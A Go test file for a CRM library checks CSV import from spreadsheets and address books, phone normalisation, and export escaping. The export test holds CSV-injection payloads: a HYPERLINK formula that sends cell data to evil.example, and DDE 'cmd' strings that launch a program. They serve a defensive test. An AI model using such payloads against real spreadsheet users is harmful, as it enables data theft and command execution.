package crm_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/socialcrm/socialcrm/crm"
	"github.com/socialcrm/socialcrm/internal/dbtest"
)

// TestS10AuditCSVFilesAsPeopleHaveThem: CSV files as spreadsheets and
// address books write them import whole, twice without a duplicate: a
// semicolon-separated file (a spreadsheet where the comma is the decimal
// separator), a tab-separated one, an address book's "Work Email",
// "E-mail 1 - Value" and "Business Phone" columns (the first non-empty of
// two e-mail columns is taken), and a full name written "Last, First".
func TestS10AuditCSVFilesAsPeopleHaveThem(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, db *dbtest.DB) {
		e := newEnv(t, db, crm.WithDefaultRegion("GB"))
		c := e.store.Contacts()
		type want struct{ first, last, email, phone string }
		for _, f := range []struct {
			name, text string
			want       []want
		}{
			{"semicolons", "\ufeffFirst Name;Last Name;E-mail;Mobile;Notes\n" +
				"Semi;Colon;semi@example.com;07700 900123;\"a; b\"\n" +
				"Other;Person;other@example.com;;\n",
				[]want{{"Semi", "Colon", "semi@example.com", "+447700900123"}, {"Other", "Person", "other@example.com", ""}}},
			{"tabs", "Full Name\tEmail Address\tPhone Number\nTab Sep\ttab@example.com\t020 7946 0111\n",
				[]want{{"Tab", "Sep", "tab@example.com", "+442079460111"}}},
			{"address book", "Given Name,Family Name,E-mail 1 - Value,Phone 1 - Value\nGoo,Gle,goo@example.com,\n",
				[]want{{"Goo", "Gle", "goo@example.com", ""}}},
			{"work columns", "Full Name,Work Email,Personal Email,Business Phone\n" +
				"\"Lovelace, Ada\",,ada.home@example.com,\n" +
				"Grace Hopper,grace@work.example,grace@home.example,020 7946 0222\n",
				[]want{{"Ada", "Lovelace", "ada.home@example.com", ""}, {"Grace", "Hopper", "grace@work.example", "+442079460222"}}},
		} {
			for round := range 2 {
				rep, err := c.ImportCSV(e.A, strings.NewReader(f.text), crm.ImportOptions{})
				require.NoError(t, err, f.name)
				require.Zero(t, rep.Rejected, "%s: %+v", f.name, rep.Errors)
				require.Len(t, rep.Results, len(f.want), f.name)
				for i, w := range f.want {
					r := rep.Results[i]
					if round == 0 {
						require.Equal(t, crm.ImportCreated, r.Action, "%s row %d: %+v", f.name, i, rep)
					} else {
						require.Equal(t, crm.ImportUnchanged, r.Action, "%s row %d imported again: %+v", f.name, i, rep)
					}
					got, err := c.Get(e.A, r.ContactID)
					require.NoError(t, err)
					require.Equal(t, w, want{got.FirstName, got.LastName, got.Email, got.Phone}, f.name)
				}
			}
		}
	}, setup)
}

// TestS10AuditCSVExportIsNotAFormula: values that a spreadsheet would run
// as formulas — a name a web form or a platform profile handed in — are
// exported as text (an apostrophe in front, as spreadsheets mark such
// text), phone numbers and plain values as they are; importing the export
// back restores each value exactly and changes nothing.
func TestS10AuditCSVExportIsNotAFormula(t *testing.T) {
	each(t, func(t *testing.T, e *env) {
		c := e.store.Contacts()
		evil := []string{`=HYPERLINK("https://evil.example/?"&A1,"x")`, "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"}
		var ids []string
		for i, name := range evil {
			ct, err := c.Create(e.A, crm.ContactInput{FirstName: name, LastName: "Plain", Email: fmt.Sprintf("f%d@example.com", i), Phone: fmt.Sprintf("+1415555%04d", i)})
			require.NoError(t, err)
			ids = append(ids, ct.ID)
		}
		var out bytes.Buffer
		_, err := c.ExportCSV(e.A, &out, crm.ContactFilter{})
		require.NoError(t, err)
		r := csv.NewReader(bytes.NewReader(out.Bytes()))
		recs, err := r.ReadAll()
		require.NoError(t, err)
		for _, rec := range recs[1:] {
			for _, cell := range rec {
				if cell != "" && strings.ContainsRune("=@+-\t\r", rune(cell[0])) {
					require.Regexp(t, `^\+[0-9]+$`, cell, "a cell a spreadsheet would run: %q", cell)
				}
			}
		}
		rep, err := c.ImportCSV(e.A, bytes.NewReader(out.Bytes()), crm.ImportOptions{})
		require.NoError(t, err)
		require.Equal(t, len(evil), rep.Unchanged, "%+v", rep.Results)
		for i, id := range ids {
			got, err := c.Get(e.A, id)
			require.NoError(t, err)
			require.Equal(t, evil[i], got.FirstName)
		}
	})
}

// TestS10AuditBillingPhonesInAnyFormat: a client's billing phone number
// and an invoice recipient's are read as a contact's is — national in the
// default region, any punctuation — stored in E.164 form, and found by a
// data-subject request by phone in another format. Without a default
// region a national number is refused with a *ValidationError.
func TestS10AuditBillingPhonesInAnyFormat(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, db *dbtest.DB) {
		e := newEnv(t, db, crm.WithDefaultRegion("US"))
		s := e.store
		cl, err := s.Clients().Create(e.A, crm.ClientInput{Name: "Client", Phone: "(415) 555-0142"})
		require.NoError(t, err)
		require.Equal(t, "+14155550142", cl.Phone)
		cl, err = s.Clients().Update(e.A, cl.ID, cl.Version, crm.ClientInput{Name: "Client", Phone: "415.555.0143"})
		require.NoError(t, err)
		require.Equal(t, "+14155550143", cl.Phone)
		given := &crm.Recipient{Phone: "1-415-555-0144"}
		inv, err := s.Invoices().Create(e.A, crm.InvoiceInput{Number: "INV-1", ClientID: cl.ID, Currency: "EUR",
			Lines: []crm.LineItem{{Description: "ring", Quantity: 1, UnitPrice: 100}}, BillTo: crm.BillTo{Name: "Client"}, Recipient: given})
		require.NoError(t, err)
		require.Equal(t, "+14155550144", inv.Recipient.Phone)
		require.Equal(t, "1-415-555-0144", given.Phone, "the caller's value is not changed")
		got, err := s.Invoices().Get(e.A, inv.ID)
		require.NoError(t, err)
		require.Equal(t, "+14155550144", got.Recipient.Phone)

		rs := s.Resolvers()
		keys, err := rs[crm.SubjectPhone](e.A, db.DB, "+1 (415) 555-0143")
		require.NoError(t, err)
		require.Equal(t, []string{cl.ID}, keys[crm.SubjectClientContact])
		keys, err = rs[crm.SubjectPhone](e.A, db.DB, "(415) 555-0144")
		require.NoError(t, err)
		require.Equal(t, []string{inv.ID}, keys[crm.SubjectInvoice])

		bare := newEnv(t, db)
		_, err = bare.store.Clients().Create(bare.A, crm.ClientInput{Name: "Client", Phone: "(415) 555-0142"})
		require.ErrorIs(t, err, crm.ErrInvalid)
	}, setup)
}
